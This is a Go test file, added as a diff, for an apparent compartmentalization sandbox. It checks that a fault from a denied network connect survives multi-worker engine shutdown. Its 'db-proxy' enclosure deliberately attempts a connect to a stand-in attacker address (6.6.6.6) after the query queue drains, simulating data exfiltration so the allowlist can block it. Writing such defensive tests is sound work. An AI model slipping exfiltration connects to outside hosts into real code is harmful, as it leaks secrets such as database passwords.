@@ -1,0 +1,119 @@
+package wiki_test
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/litterbox-project/enclosure"
+	"github.com/litterbox-project/enclosure/internal/apps/wiki"
+	"github.com/litterbox-project/enclosure/internal/core"
+	"github.com/litterbox-project/enclosure/internal/engine"
+	"github.com/litterbox-project/enclosure/internal/kernel"
+	"github.com/litterbox-project/enclosure/internal/simdb"
+	"github.com/litterbox-project/enclosure/internal/simnet"
+)
+
+// TestEngineStopSurfacesFault: when a per-worker task faults, the
+// ServeEngine stop function joins every worker's Handle errors, and the
+// fault must stay extractable from that joined error via AsFault —
+// the regression for faults disappearing inside multi-worker shutdown.
+//
+// The db-proxy enclosure here attempts an exfiltration connect after
+// its query queue drains (i.e. during stop, once all requests have
+// completed), so the fault lands deterministically in the proxy Handle
+// that stop() joins.
+func TestEngineStopSurfacesFault(t *testing.T) {
+	attacker := simnet.Addr{Host: simnet.HostIP(6, 6, 6, 6), Port: 80}
+	for _, kind := range []core.BackendKind{core.MPK, core.VTX, core.CHERI} {
+		t.Run(kind.String(), func(t *testing.T) {
+			b := core.NewBuilder(kind)
+			b.Package(core.PackageSpec{
+				Name:    "main",
+				Imports: []string{wiki.MuxPkg, wiki.PqPkg},
+				Vars:    map[string]int{"db_password": 32, "page_templates": 1024},
+				Origin:  "app",
+			})
+			wiki.Register(b)
+			b.Enclosure("http-server", "main", wiki.PolicyServer,
+				func(t *core.Task, args ...core.Value) ([]core.Value, error) {
+					return t.Call(wiki.MuxPkg, "ServeConn", args...)
+				}, wiki.MuxPkg)
+			b.Enclosure("db-proxy", "main", wiki.PolicyProxy,
+				func(t *core.Task, args ...core.Value) ([]core.Value, error) {
+					ret, err := t.Call(wiki.PqPkg, "Proxy", args[0])
+					if err != nil {
+						return ret, err
+					}
+					// Queue drained: now try to leak to a non-allow-listed
+					// host. The connect allowlist denies it and the task
+					// faults inside its worker's domain.
+					sock, _ := t.Syscall(kernel.NrSocket)
+					t.Syscall(kernel.NrConnect, sock, uint64(attacker.Host), uint64(attacker.Port))
+					return nil, nil
+				}, wiki.PqPkg)
+			prog, err := b.Build()
+			if err != nil {
+				t.Fatal(err)
+			}
+			db, err := simdb.Start(prog.Net())
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer db.Close()
+			db.Put("home", []byte("engine wiki page"))
+
+			e := engine.New(prog, engine.Opts{Workers: 2})
+			defer e.Close()
+			const port = 8096
+			srv, stop, err := wiki.ServeEngine(e, port,
+				prog.MustEnclosure("http-server"), prog.MustEnclosure("db-proxy"))
+			if err != nil {
+				t.Fatal(err)
+			}
+
+			// Serve a few requests so workers (and their proxy tasks) exist.
+			for i := 0; i < 4; i++ {
+				conn, err := prog.Net().Dial(simnet.HostIP(10, 0, 0, 99),
+					simnet.Addr{Host: core.DefaultHostIP, Port: port})
+				if err != nil {
+					t.Fatal(err)
+				}
+				if _, err := conn.Write([]byte("GET /view/home HTTP/1.1\r\n\r\n")); err != nil {
+					t.Fatal(err)
+				}
+				var resp []byte
+				buf := make([]byte, 4096)
+				for {
+					n, err := conn.Read(buf)
+					resp = append(resp, buf[:n]...)
+					if err != nil {
+						break
+					}
+				}
+				conn.Close()
+				if !strings.Contains(string(resp), "engine wiki page") {
+					t.Fatalf("request %d: %.120q", i, string(resp))
+				}
+			}
+
+			srv.Close()
+			e.Close()
+			err = stop()
+			if err == nil {
+				t.Fatal("stop() lost the proxy fault")
+			}
+			fault, ok := enclosure.AsFault(err)
+			if !ok {
+				t.Fatalf("AsFault missed the fault inside the joined stop error: %v", err)
+			}
+			if fault.Op != "syscall" || fault.Detail != "connect" {
+				t.Errorf("fault = %s %s, want a denied connect", fault.Op, fault.Detail)
+			}
+			// The requests themselves all succeeded: the fault fired after
+			// the drain, inside the worker's own fault domain.
+			if f, aborted := prog.Fault(); aborted {
+				t.Errorf("whole-program abort leaked out of the worker domain: %v", f)
+			}
+		})
+	}
+}
